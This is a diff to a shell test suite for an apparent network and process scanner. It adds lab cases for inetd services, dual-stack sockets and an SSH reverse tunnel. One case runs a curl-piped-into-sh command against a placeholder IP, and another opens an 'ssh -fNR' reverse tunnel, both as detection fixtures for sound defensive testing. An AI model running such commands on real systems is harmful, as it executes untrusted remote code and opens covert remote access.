@@ -33,9 +33,11 @@ run-inetd-gone()
 {
 	local inetd
 
-	need systemd-socket-activate
+	need inetd
 	service_script
-	bg systemd-socket-activate -a --inetd -l 7000 /opt/service
+	echo '7000 stream tcp nowait nobody /opt/service service' \
+		>$LAB/inetd.conf
+	bg inetd -d $LAB/inetd.conf
 	inetd=$!
 	await local_port=7000 state=LISTEN
 	visitors 7000
@@ -217,11 +219,12 @@ run-version-removed()
 	await local_port=8080 'exe~(deleted)'
 }
 
-peace curl-sh 'curl into sh (scanned with @audit)'
+peace curl-sh 'curl into sh by a job, low (scanned with @audit)'
 run-curl-sh()
 {
 	need curl
 	SCAN=(-o +@audit)
+	FLAG=("${LOW[@]}")
 	hold 443
 	as lab sh -c 'curl -s https://203.0.113.1/ | sh | cat'
 	await process=curl state=ESTABLISHED
@@ -252,4 +255,37 @@ run-editor()
 	EOF
 	as lab node /home/lab/.vscode-server/bin/server.js
 	await process=node state=ESTABLISHED shells~pty
+}
+
+peace ssh-back-private 'ssh -R to a machine of the same network'
+run-ssh-back-private()
+{
+	there_sshd
+	bg ssh -p 2222 "${SSH[@]}" -fNR 8022:127.0.0.1:22 root@10.0.0.1
+	await process=ssh state=ESTABLISHED
+}
+
+peace two-sides 'a server of IPv4 and IPv6, and a child that has one'
+run-two-sides()
+{
+	need perl
+	as www-data perl -MSocket=:all -e '
+socket($a, PF_INET, SOCK_STREAM, 6); bind($a, sockaddr_in(8080, INADDR_ANY));
+socket($b, PF_INET6, SOCK_STREAM, 6); setsockopt($b, IPPROTO_IPV6, IPV6_V6ONLY, 1);
+bind($b, sockaddr_in6(8080, inet_pton(AF_INET6, "::"))); listen($_, 9) for $a, $b;
+if (!fork) { close $b; fcntl($a, 2, 0); exec "python3", "-c", "import time; time.sleep(60)" }
+sleep 60'
+	await local_port=8080 process=perl local_addr=::
+	await local_port=8080 local_addr=0.0.0.0 process~python
+}
+
+peace inetd-store "a service of inetd's on the port of a store"
+run-inetd-store()
+{
+	need inetd
+	service_script
+	echo '9200 stream tcp nowait nobody /opt/service service' \
+		>$LAB/inetd.conf
+	bg inetd -d $LAB/inetd.conf
+	await local_port=9200 state=LISTEN
 }
